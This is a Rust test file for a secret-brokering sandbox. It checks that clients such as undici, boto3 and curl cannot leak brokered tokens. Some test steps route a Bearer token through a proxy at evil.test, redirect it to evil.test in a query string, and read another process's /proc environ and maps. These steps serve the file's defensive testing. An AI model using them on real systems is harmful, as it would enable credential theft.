//! More real clients with brokered secrets, proxies that stand in the way, and placeholders that a client takes elsewhere.

use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

use bailiwick_testkit::skip;

use super::secrets::{GRANT, VALUE, World, request, text, uses};
use super::servers::{self, Authority, Files, Seen};
use super::traces::outside_and_inside;
use super::world::{Stage, in_world, test_name, users};
use super::{EVIL, GOOD};
use crate::escape::{User, as_user};

const KEY: &str = "q9Zr/3xKQdv7Vb2Mh5WnTy8LpRs4HfJc6GaUe+1N";

/// A directory that every user may read, with copies of these packages.
fn shown(from: &Path, names: &[&str]) -> Option<tempfile::TempDir> {
    if !names.iter().all(|name| from.join(name).exists()) {
        return None;
    }
    let directory = tempfile::tempdir_in("/var/tmp").unwrap();
    std::fs::set_permissions(directory.path(), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    for name in names {
        let copied =
            Command::new("cp").arg("-r").arg(from.join(name)).arg(directory.path()).status().unwrap();
        assert!(copied.success(), "{name}");
    }
    Some(directory)
}

#[test]
fn undici_uses_a_secret_that_it_does_not_have() {
    if !in_world(test_name!()) {
        return;
    }
    let cache = std::env::var_os("XDG_CACHE_HOME").map(PathBuf::from);
    let cache = cache.or_else(|| Some(PathBuf::from(std::env::var_os("HOME")?).join(".cache"))).unwrap();
    let modules = cache.join("bailiwick/servers/clients/node_modules");
    let Some(packages) = shown(&modules, &["undici"]) else {
        return skip("no `undici` in the cache that scripts/test fills");
    };
    let own = packages.path().join("undici").display().to_string();
    let ask = "const { request } = require(process.argv[1]); \
               request('https://good.test/x', {headers: {authorization: 'Bearer ' + process.env.TOKEN}})\
               .then(r => r.body.text()).then(t => process.stdout.write(t))";
    uses(&["/usr/bin/node", "-e", ask, &own], &[&format!("fs:read:{}/**", packages.path().display())]);
}

/// The server that checks signatures, without TLS.
struct Checking(Child);

impl Drop for Checking {
    fn drop(&mut self) {
        drop(self.0.kill());
        drop(self.0.wait());
    }
}

/// Ends TLS for a host and hands each request to the server at a port of this machine.
fn in_tls(authority: &Authority, port: u16) {
    let config = std::sync::Arc::new(authority.server(&["good.test"]));
    servers::serve(&format!("{GOOD}:443"), move |stream| {
        let connection = rustls::ServerConnection::new(std::sync::Arc::clone(&config)).unwrap();
        let mut tls = rustls::StreamOwned::new(connection, stream);
        while let Some((head, body)) = request(&mut tls) {
            let mut server = TcpStream::connect(("127.0.0.1", port)).unwrap();
            let head = head.replacen("\r\n", "\r\nConnection: close\r\n", 1);
            server.write_all(&[head.as_bytes(), &body].concat()).unwrap();
            let mut answer = Vec::new();
            server.read_to_end(&mut answer).unwrap();
            if tls.write_all(&answer).and_then(|()| tls.flush()).is_err() {
                return;
            }
        }
    });
}

#[test]
fn boto3_signs_inside_what_is_signed_anew_outside() {
    if !in_world(test_name!()) {
        return;
    }
    let names = ["boto3", "botocore", "s3transfer", "jmespath", "dateutil", "urllib3", "six.py"];
    let found = super::clients::packages().and_then(|from| Some((shown(&from, &names)?, from)));
    let Some((packages, from)) = found else {
        return skip("no `boto3` in the cache that scripts/test fills");
    };
    let scripts = concat!(env!("CARGO_MANIFEST_DIR"), "/../bailiwick-broker/tests/it");
    let mut server = Command::new("/usr/bin/python3");
    server.args([&*format!("{scripts}/aws_server.py"), "-", "-", KEY]).env("PYTHONPATH", &from);
    let mut server = Checking(server.stdout(Stdio::piped()).spawn().unwrap());
    let mut lines = BufReader::new(server.0.stdout.take().unwrap()).lines();
    let port: u16 = lines.next().unwrap().unwrap().parse().unwrap();
    let (heard, keep) = (Seen::default(), Seen::default());
    let keeping = heard.clone();
    std::thread::spawn(move || {
        lines.map_while(Result::ok).for_each(|line| {
            keeping.add(&line);
        })
    });
    let world = World { authority: Authority::new(), good: keep };
    in_tls(&world.authority, port);
    for user in users() {
        let stage = Stage::new(*user);
        let (client, before) = (stage.path("client.py"), heard.count());
        std::fs::copy(format!("{scripts}/aws_client.py"), &client).unwrap();
        let manifest = stage.path("m.toml");
        std::fs::write(
            &manifest,
            format!(
                "name = 't'\nversion = '1'\nserver_capabilities = ['{GRANT}']\n[secrets.TOKEN]\nsign = 'aws-sigv4'\n"
            ),
        )
        .unwrap();
        let reads = [
            format!("fs:read:{}/**", packages.path().display()),
            format!("fs:read:{}", client.display()),
            "env:read:AWS_ACCESS_KEY_ID".to_owned(),
            "exec:spawn:/usr/bin/python3".to_owned(),
        ];
        let caps: Vec<&str> = reads.iter().map(String::as_str).collect();
        let mut run = world.run(&stage, &caps, &["--manifest", &manifest.display().to_string(), "--"]);
        run.env("THE_VALUE", KEY).env("AWS_ACCESS_KEY_ID", "AKIDEXAMPLE").env("COPY", "");
        let start = "AWS_SECRET_ACCESS_KEY=\"$TOKEN\" AWS_EC2_METADATA_DISABLED=true exec /usr/bin/python3 \"$0\" https://good.test \"\" \"$1\"";
        run.args(["/usr/bin/bash", "-c", start]).arg(&client).arg(packages.path());
        let output = run.output().unwrap();
        let said = heard.all()[before..].to_vec();
        assert!(
            said.len() == 4 && said.iter().all(|line| line.starts_with("good ")),
            "{user:?} {said:?} {output:?}"
        );
        assert!(text(&output.stdout).contains("AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/"), "{output:?}");
        let all = text(&output.stdout) + &text(&output.stderr);
        assert!(!all.contains(KEY) && all.contains("with TOKEN"), "{all}");
    }
}

#[test]
fn proxies_of_the_caller_and_of_the_program_get_nothing() {
    if !in_world(test_name!()) {
        return;
    }
    let world = World::new();
    let files: Files = Files::new([("/x".to_owned(), b"by proxy".to_vec())].into());
    let proxy = servers::http(&format!("{EVIL}:3128"), &files);
    let named = format!("http://{EVIL}:3128");
    for user in users() {
        let stage = Stage::new(*user);
        let before = (proxy.count(), world.good.count());
        let caps = ["exec:spawn:/usr/bin/curl", "net:connect:evil.test:3128"];
        // The company's: in the environment of who starts it.
        let mut run = world.run(&stage, &caps, &["--"]);
        for name in ["HTTPS_PROXY", "https_proxy", "ALL_PROXY", "all_proxy", "HTTP_PROXY", "http_proxy"] {
            run.env(name, &named);
        }
        let ask = "/usr/bin/curl -sS -H \"Authorization: Bearer $TOKEN\" https://good.test/x";
        let output = run.args(["/usr/bin/bash", "-c", ask]).output().unwrap();
        assert_eq!(text(&output.stdout), "the answer", "{user:?} {output:?}");
        assert_eq!(proxy.count(), before.0, "{user:?} {:?}", proxy.all());
        assert!(world.good.all()[before.1..].join("").contains(VALUE));
        // The program's own: a tunnel through another host, and a request that names the host in the clear.
        let reached = world.good.count();
        for option in
            ["-x http://evil.test:3128 https://good.test/x", "-x http://evil.test:3128 http://good.test/x"]
        {
            let ask =
                format!("/usr/bin/curl -sS -m 10 -H \"Authorization: Bearer $TOKEN\" {option}; echo \" $?\"");
            let output =
                world.run(&stage, &caps, &["--"]).args(["/usr/bin/bash", "-c", &ask]).output().unwrap();
            assert!(
                !text(&output.stdout).contains("answer") && !text(&output.stdout).contains("by proxy"),
                "{output:?}"
            );
        }
        assert_eq!(world.good.count(), reached);
        assert!(!proxy.all().join("").contains("Bearer"), "{:?}", proxy.all());
        // The same host takes what has no placeholder.
        let ask = "/usr/bin/curl -sS http://evil.test:3128/x";
        let output = world.run(&stage, &caps, &["--"]).args(["/usr/bin/bash", "-c", ask]).output().unwrap();
        assert_eq!(text(&output.stdout), "by proxy", "{output:?}");
    }
}

#[test]
fn a_client_that_follows_a_redirect_takes_no_value_along() {
    if !in_world(test_name!()) {
        return;
    }
    let authority = Authority::new();
    let config = std::sync::Arc::new(authority.server(&["good.test"]));
    servers::serve(&format!("{GOOD}:443"), move |stream| {
        let connection = rustls::ServerConnection::new(std::sync::Arc::clone(&config)).unwrap();
        let mut tls = rustls::StreamOwned::new(connection, stream);
        while let Some((head, _)) = request(&mut tls) {
            let value = head.split("Bearer ").nth(1).and_then(|rest| rest.lines().next()).unwrap_or_default();
            let scheme = if head.contains("/plain") { "http" } else { "https" };
            let answer = format!(
                "HTTP/1.1 302 Found\r\nLocation: {scheme}://evil.test/?t={value}\r\nContent-Length: 0\r\n\r\n"
            );
            if tls.write_all(answer.as_bytes()).and_then(|()| tls.flush()).is_err() {
                return;
            }
        }
    });
    let files: Files = Files::new(std::collections::BTreeMap::new());
    let secure = servers::https(&format!("{EVIL}:443"), &authority, &["evil.test"], &files);
    let plain = servers::http(&format!("{EVIL}:80"), &files);
    let world = World { authority, good: Seen::default() };
    for user in users() {
        let stage = Stage::new(*user);
        // The list of the inside has the system's authorities, and the test's is one of them.
        let caps = ["exec:spawn:/usr/bin/curl", "net:connect:evil.test:443", "net:connect:evil.test:80"];
        for (path, follower) in [("x", &secure), ("plain", &plain)] {
            let before = follower.count();
            let ask = format!(
                "/usr/bin/curl -sS -m 10 -L --location-trusted -H \"Authorization: Bearer $TOKEN\" https://good.test/{path}; echo; echo \"$TOKEN\""
            );
            let output =
                world.run(&stage, &caps, &["--"]).args(["/usr/bin/bash", "-c", &ask]).output().unwrap();
            let token = text(&output.stdout).lines().last().unwrap_or_default().to_owned();
            let heard = follower.all()[before..].join("\n");
            assert!(token.len() == VALUE.len() && !heard.contains(VALUE), "{user:?} {heard} {output:?}");
            if path == "plain" {
                assert!(!heard.contains(&token), "in the clear not even the placeholder: {heard}");
            } else {
                assert!(
                    heard.contains("/?t=***") && heard.contains(&token),
                    "it is worth nothing there: {heard} {output:?}"
                );
            }
        }
    }
}

#[test]
fn no_other_process_of_the_user_looks_into_the_one_that_holds_values() {
    if !in_world(test_name!()) {
        return;
    }
    let world = World::new();
    for user in users().iter().filter(|user| **user != User::Root) {
        let stage = Stage::new(*user);
        let mut run = world.run(&stage, &["exec:spawn:/usr/bin/sleep"], &["--"]);
        run.args(["/usr/bin/bash", "-c", "echo there; /usr/bin/sleep 30"]).stdout(Stdio::piped());
        let mut child = Checking(run.stderr(Stdio::null()).spawn().unwrap());
        let mut line = String::new();
        BufReader::new(child.0.stdout.take().unwrap()).read_line(&mut line).unwrap();
        assert_eq!(line, "there\n");
        let words = |pid: &u32| std::fs::read_to_string(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        let (outside, _) = outside_and_inside(child.0.id());
        let holder = outside.iter().find(|pid| words(pid).contains("secret\0hold")).expect("it runs");
        let reads = |pid: u32, what: &str| {
            let mut cat = as_user(*user, "/usr/bin/cat");
            cat.arg(format!("/proc/{pid}/{what}")).stdout(Stdio::null()).stderr(Stdio::null());
            cat.status().unwrap().success()
        };
        let mut other = as_user(*user, "/usr/bin/sleep");
        let other = Checking(other.arg("30").spawn().unwrap());
        for what in ["environ", "maps", "auxv"] {
            assert!(!reads(*holder, what), "{user:?} {what}");
            // The measure itself; the program has to be there first.
            let there = (0..200).any(|_| {
                std::thread::sleep(std::time::Duration::from_millis(5));
                words(&other.0.id()).contains("sleep") && reads(other.0.id(), what)
            });
            assert!(there, "{user:?} {what} of another process");
        }
    }
}
